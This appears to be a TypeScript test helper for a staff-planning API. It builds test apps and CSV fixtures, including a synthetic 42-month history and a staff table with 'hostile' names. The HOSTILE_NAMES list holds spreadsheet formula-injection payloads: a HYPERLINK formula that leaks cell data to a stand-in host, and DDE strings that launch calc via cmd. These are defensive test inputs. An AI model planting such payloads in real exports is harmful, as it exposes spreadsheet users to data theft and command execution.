/**
 * Builds the app for tests: a fresh temporary data directory and the small valid dataset of
 * test/cases/imports/good (4 centers) instead of the embedded one, so each test starts in ms.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { FastifyInstance } from 'fastify';
import { buildApp, type AppOptions } from '../../../api/app.ts';

export const GOOD_DIR = fileURLToPath(new URL('../../cases/imports/good/', import.meta.url));
export const BAD_DIR = fileURLToPath(new URL('../../cases/imports/bad/', import.meta.url));
export const DOSSIER_DIR = fileURLToPath(new URL('../../cases/imports/dossiers/', import.meta.url));

export const tempDataDir = (): string => mkdtempSync(join(tmpdir(), 'planner-api-test-'));

/** The 5xx lines of every app built by testApp without its own errorLog (tests that expect a 5xx read them). */
export const serverErrors: string[] = [];

/** Each app keeps its forecast files beside its database unless told otherwise (not in the shared node_modules/.cache). */
export const testApp = async (options: Partial<AppOptions> = {}): Promise<FastifyInstance> => {
  const dataDir = options.dataDir ?? tempDataDir();
  return buildApp({
    dataDir,
    forecastDir: join(dataDir, 'forecasts'),
    mode: 'local',
    datasetDir: GOOD_DIR,
    webDir: join(tmpdir(), 'no-web-planner-here'),
    errorLog: (line) => serverErrors.push(line),
    ...options,
  });
};

/** The four good tables as the JSON import body expects them. */
export const goodTables = (): Record<'centers' | 'fields' | 'history' | 'staff', { name: string; text: string }> => {
  const file = (table: string) => ({ name: `${table}.csv`, text: readFileSync(join(GOOD_DIR, `${table}.csv`), 'utf8') });
  return { centers: file('centers'), fields: file('fields'), history: file('history'), staff: file('staff') };
};

export const json = (body: string): unknown => JSON.parse(body);

/**
 * The good tables with a 42-month history (2023-01 to 2026-06, a year after the 2025-07 break) for every center x field x channel,
 * long enough to forecast: a level per series, a yearly wave and a Tet dip, all by formula.
 * Written once per test process into a temporary directory.
 */
let longDir: string | undefined;
export const longHistoryDir = (): string => {
  if (longDir !== undefined) return longDir;
  const dir = mkdtempSync(join(tmpdir(), 'planner-api-long-'));
  for (const table of ['centers', 'fields', 'staff']) writeFileSync(join(dir, `${table}.csv`), readFileSync(join(GOOD_DIR, `${table}.csv`)));
  const centers = readFileSync(join(GOOD_DIR, 'centers.csv'), 'utf8').trim().split('\n').slice(1).map((l) => l.split(',')[0] as string);
  const fields = readFileSync(join(GOOD_DIR, 'fields.csv'), 'utf8').trim().split('\n').slice(1).map((l) => l.split(',')[0] as string);
  const lines = ['center_code,month,field,channel,received,resolved_on_time,resolved_late,pending'];
  centers.forEach((center, c) => fields.forEach((field, f) => ['direct', 'online'].forEach((channel, h) => {
    for (let k = 0; k < 42; k += 1) {
      const month = `${2023 + Math.floor(k / 12)}-${String((k % 12) + 1).padStart(2, '0')}`;
      const level = 40 + 25 * c + 15 * f + 30 * h;
      const received = Math.round(level * (1 + 0.2 * Math.sin((2 * Math.PI * k) / 12)) * (k % 12 === 1 ? 0.6 : 1));
      lines.push(`${center},${month},${field},${channel},${received},${received},0,0`);
    }
  })));
  writeFileSync(join(dir, 'history.csv'), `${lines.join('\n')}\n`);
  longDir = dir;
  return dir;
};

/** Staff names a spreadsheet would evaluate as formulas (one per civil servant of the good tables), and a negative-looking one. */
export const HOSTILE_NAMES = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Nguyễn Văn An")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '=1+1', '@A1'] as const;

/**
 * The long-history tables (longHistoryDir) with every civil servant's name replaced by one of
 * HOSTILE_NAMES, written raw (quoted only where CSV needs it), as a hostile import would hold them;
 * nobody is locked.
 */
let hostileDir: string | undefined;
export const hostileNamesDir = (): string => {
  if (hostileDir !== undefined) return hostileDir;
  const long = longHistoryDir();
  const dir = mkdtempSync(join(tmpdir(), 'planner-api-hostile-'));
  for (const table of ['centers', 'fields', 'history']) writeFileSync(join(dir, `${table}.csv`), readFileSync(join(long, `${table}.csv`)));
  const quote = (cell: string) => (/[",;\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
  const [header, ...rows] = readFileSync(join(GOOD_DIR, 'staff.csv'), 'utf8').trim().split('\n');
  const renamed = rows.map((line, i) => {
    const [id, , ...rest] = line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    // Nobody locked, so the plan may move anyone and more hostile names reach the moves.
    return [id, quote(HOSTILE_NAMES[i % HOSTILE_NAMES.length] as string), ...rest.slice(0, -1), 'false'].join(',');
  });
  writeFileSync(join(dir, 'staff.csv'), `${[header, ...renamed].join('\n')}\n`);
  hostileDir = dir;
  return dir;
};
